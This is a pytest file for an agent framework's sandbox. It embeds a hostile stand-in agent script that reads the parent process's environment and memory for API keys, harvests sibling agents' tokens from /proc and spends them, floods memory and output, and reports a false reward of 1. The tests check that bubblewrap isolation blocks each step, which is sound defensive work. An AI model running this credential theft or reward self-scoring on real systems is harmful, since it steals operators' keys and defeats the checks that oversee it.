"""The issue-40 attacks, run as a user runs an agent (``python -m agentbus.run``).

An attacking stdlib script agent reads its parent's ``/proc/PID/environ`` and
``/proc/PID/mem`` (where agentbus's provider keys live), scans every
``/proc/*/environ`` for a sibling episode's token and spends it on the
``critic``, which its own coalition has switched off, tries to write into
the run directory, and reports ``reward: 1`` for a wrong answer.

* Under the default sandbox nothing is read or spent: no canary key appears
  in any file of the run or any response, the agent sees only its own
  processes, and the numeric scorer gives 0 of 4 (item 4's repro).
* The same agent with ``--agent-isolation none`` read the parent's
  environment and spent siblings' tokens when this test was written (the
  control; not run here, to keep the suite's time): that mode and
  ``--scorer result`` each print what they allow.
* A missing ``bwrap`` stops the run in one line naming the package and flag.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import orjson
import pytest

from agentbus.app import external
from agentbus.app.config import RunConfig
from agentbus.core.errors import UserError
from agentbus.gateway.isolation import Isolation
from agentbus.gateway.sandbox import check
from tests.helpers.sandbox_marks import needs_bwrap

CANARY = "sk-canary-isolation-40f1c2"

ATTACK = r"""
import glob, json, os, sys, time, urllib.error, urllib.request
task = json.loads(sys.stdin.read())
me = os.environ["OPENAI_API_KEY"]
found = {"procs": 0, "parent_env": 0, "mem_bytes": 0, "stolen": 0, "spent": 0, "leak": ""}
ppid = os.getppid()
try:
    text = open(f"/proc/{ppid}/environ", "rb").read().decode(errors="replace")
    found["parent_env"] = len(text)
    if "sk-canary" in text:
        found["leak"] = text[text.index("sk-canary"):][:40]
except OSError:
    pass
try:
    with open(f"/proc/{ppid}/maps") as maps, open(f"/proc/{ppid}/mem", "rb") as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if not perms.startswith("rw"):
                continue
            lo, hi = (int(x, 16) for x in span.split("-"))
            try:
                mem.seek(lo)
                chunk = mem.read(min(hi - lo, 8 << 20))
            except (OSError, ValueError, OverflowError):
                continue
            found["mem_bytes"] += len(chunk)
            at = chunk.find(b"sk-canary-isolation")
            if at >= 0 and not found["leak"]:
                found["leak"] = chunk[at:at + 40].decode(errors="replace")
except OSError:
    pass
if FLOOD and task["id"].endswith("0000") and "critic" in os.environ["AGENTBUS_OFF_SLOTS"]:
    content = b"x" * (64 << 20)  # a 64 MiB body, then 512 MiB of output and a 64 MiB line
    body = b'{"model": "planner", "messages": [{"role": "user", "content": "' + content + b'"}]}'
    req = urllib.request.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions", data=body,
        headers={"Authorization": "Bearer " + me, "Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=60).read()
    except (urllib.error.URLError, OSError):
        pass
    line = b"y" * (1 << 20) + b"\n"
    try:
        for _ in range(512):
            sys.stdout.buffer.write(line)
        sys.stdout.buffer.write(b'{"answer": "' + content + b'"}\n')
    except BrokenPipeError:
        pass
    sys.exit(0)
own = json.dumps({"model": "planner", "messages": [{"role": "user", "content": "plan"}]})
urllib.request.urlopen(urllib.request.Request(
    os.environ["OPENAI_BASE_URL"] + "/chat/completions", data=own.encode(),
    headers={"Authorization": "Bearer " + me, "Content-Type": "application/json"}), timeout=30)
time.sleep(0.5)  # the sibling episodes are running now
others = {}
for path in glob.glob("/proc/[0-9]*/environ"):
    found["procs"] += 1
    try:
        items = dict(
            kv.split("=", 1) for kv in
            open(path, "rb").read().decode(errors="replace").split("\0") if "=" in kv
        )
    except OSError:
        continue
    token = items.get("OPENAI_API_KEY")
    if token and token != me and "OPENAI_BASE_URL" in items:
        others[token] = items["OPENAI_BASE_URL"]
found["stolen"] = len(others)
for token, base in others.items():
    body = json.dumps({"model": "critic", "messages": [{"role": "user", "content": "hi"}]})
    req = urllib.request.Request(base + "/chat/completions", data=body.encode(), headers={
        "Authorization": "Bearer " + token, "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            found["spent"] += r.status == 200
    except (urllib.error.URLError, OSError):
        pass
try:
    open("run/events.jsonl", "ab").close()
    found["run_dir_writable"] = True
except OSError:
    found["run_dir_writable"] = False
print(json.dumps({"answer": "definitely wrong " + found["leak"], "reward": 1, "success": True,
                  "found": found}))
"""


#: runs agentbus.run and writes its peak resident memory (VmHWM, kB) to hwm.txt at exit
MEASURED = """
import atexit, runpy, sys
def peak():
    for line in open("/proc/self/status"):
        if line.startswith("VmHWM"):
            open("hwm.txt", "w").write(line.split()[1])
atexit.register(peak)
sys.argv[0] = "agentbus.run"
runpy.run_module("agentbus.run", run_name="__main__", alter_sys=True)
"""


def _run(tmp_path: Path, isolation: str, *extra: str, flood: bool = False) -> Path:
    (tmp_path / "attack.py").write_text(f"FLOOD = {flood}\n" + ATTACK)
    run_dir = tmp_path / "run"
    env = {**os.environ, "OPENAI_API_KEY": CANARY, "ANTHROPIC_API_KEY": CANARY + "-a"}
    proc = subprocess.run(
        [
            sys.executable, "-c", MEASURED, "--agent-cmd", f"{sys.executable} attack.py",
            "--env", "math", "--limit", "1", "--scorer", "numeric",
            "--slots", "planner,critic", "--vary", "critic=off:on",
            "--agent-isolation", isolation, "--sim-speed", "0", "--no-plots",
            "--progress", "off", "--run-dir", str(run_dir), "--no-preflight", *extra,
        ],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    (tmp_path / "stderr.txt").write_text(proc.stderr)
    (tmp_path / "rc.txt").write_text(str(proc.returncode))
    return run_dir


def _found(run_dir: Path) -> list[dict]:
    out = []
    for line in (run_dir / "events.jsonl").read_bytes().splitlines():
        event = orjson.loads(line)
        if event.get("type") == "episode.ended":
            out.append(event["outcome"])
    return out


@needs_bwrap
def test_sandboxed_agent_reads_spends_and_floods_nothing_and_cannot_score_itself(
    tmp_path: Path,
) -> None:
    run_dir = _run(tmp_path, "sandbox", flood=True)
    assert (tmp_path / "rc.txt").read_text() == "0", (tmp_path / "stderr.txt").read_text()
    peak_mb = int((tmp_path / "hwm.txt").read_text()) / 1024
    assert peak_mb < 300, f"agentbus peaked at {peak_mb:.0f} MB"
    outcomes = _found(run_dir)
    assert len(outcomes) == 4  # one task x 4 coalitions (two critic-off floods, two probes)
    flooded = [o for o in outcomes if "result" not in o["details"]]
    assert len(flooded) == 2  # task 0 with the critic off: the agent's failure, cap named
    assert all("cap" in o["details"]["agent_error"] for o in flooded)
    assert (run_dir / "events.jsonl").stat().st_size < 4 << 20
    for outcome in outcomes:
        assert outcome["reward"] == 0.0 and outcome["success"] is False
        if outcome in flooded:
            continue
        found = outcome["details"]["result"]["found"]
        assert found["procs"] <= 3  # bwrap's init, the agent (and its reading of /proc)
        assert found["leak"] == "" and found["stolen"] == 0 and found["spent"] == 0
        assert found["run_dir_writable"] is False
    for path in [*run_dir.rglob("*"), tmp_path / "stderr.txt"]:
        if path.is_file():
            assert CANARY.encode() not in path.read_bytes(), path


def test_loosening_choices_are_named_on_the_console() -> None:
    """``--agent-isolation none`` and ``--scorer result`` each print what they allow."""
    base = {"agent_cmd": "python a.py", "slots": ["planner"]}
    assert external.notes(RunConfig(**base)) == []
    loose = external.notes(RunConfig(**base, agent_isolation="none", scorer="result"))
    assert loose[0].startswith("--agent-isolation none: your agent runs as you")
    assert "provider keys" in loose[0] and loose[1].startswith("--scorer result")


def test_missing_bubblewrap_is_one_line_naming_package_and_flag(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(UserError) as stopped:
        check(Isolation())
    assert "bubblewrap package" in str(stopped.value) and "--agent-isolation none" in str(
        stopped.value
    )
    check(Isolation(mode="none"))  # nothing to check
